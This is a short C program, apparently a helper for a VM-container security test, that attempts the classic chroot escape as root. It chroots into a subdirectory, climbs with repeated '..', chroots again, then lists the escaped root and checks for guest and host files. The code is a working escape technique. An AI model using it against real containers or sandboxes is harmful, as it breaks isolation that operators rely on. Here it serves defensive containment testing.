/* The classic chroot escape, tried by root inside a VM container (tests/security/
 * test_vm_guest_escape.py): chroot into a subdirectory while the cwd stays outside it, climb with
 * '..', chroot there. Prints what the escaped root holds, then what the process sees of the
 * guest's processes. Static, no libc NSS. */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void list(const char *tag, const char *dir) {
    DIR *d = opendir(dir);
    printf("%s", tag);
    if (!d) { printf(" (unreadable)\n"); return; }
    struct dirent *e;
    while ((e = readdir(d)))
        if (strcmp(e->d_name, ".") && strcmp(e->d_name, "..")) printf(" %s", e->d_name);
    printf("\n");
    closedir(d);
}

int main(void) {
    printf("pid %d\n", (int)getpid());
    list("procs", "/proc");
    mkdir("/escape-sub", 0755);
    if (chroot("/escape-sub") != 0) { perror("chroot"); return 1; }
    for (int i = 0; i < 256; i++) if (chdir("..") != 0) break;
    if (chroot(".") != 0) { perror("chroot ."); return 1; }
    list("escaped", "/");
    printf("init %s\n", access("/init", F_OK) == 0 ? "seen" : "absent");
    printf("isle-exec %s\n", access("/bin/isle-exec", F_OK) == 0 || access("/tmp/bin/isle-exec", F_OK) == 0
           ? "seen" : "absent");
    printf("ctl %s\n", access("/ctr.pid", F_OK) == 0 ? "seen" : "absent");
    return 0;
}
